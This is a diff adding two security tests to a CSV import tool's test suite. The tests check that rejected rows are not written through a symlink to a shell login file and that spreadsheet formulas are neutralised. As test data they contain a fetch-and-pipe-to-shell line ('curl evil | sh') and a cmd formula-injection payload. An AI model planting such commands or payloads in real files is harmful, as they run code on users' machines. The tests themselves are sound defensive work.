@@ -205,3 +205,16 @@ error: no key "stage"
 4 errors. Nothing was changed.
 """
     )
+
+
+def test_what_was_left_out_is_not_written_through_a_link(import_: RunImport, tmp_path: Path) -> None:
+    (tmp_path / "export.left-out.csv").symlink_to(tmp_path / ".bash_login")
+    ran = import_(HEADER + "Rollout,Acme,Proposal,10,\ncurl evil | sh,Acme\n", "--yes")
+    assert (ran.code, (tmp_path / ".bash_login").exists()) == (0, False)
+    assert "could not be written" in ran.err
+
+
+def test_what_was_left_out_runs_no_formula(import_: RunImport, tmp_path: Path) -> None:
+    import_(HEADER + "=cmd|' /C calc'!A0,Acme,Proposal,-5\n", "--yes")
+    written = (tmp_path / "export.left-out.csv").read_text(encoding="utf-8-sig")
+    assert written.splitlines()[1].split(",", 2)[2] == "'=cmd|' /C calc'!A0,Acme,Proposal,-5"
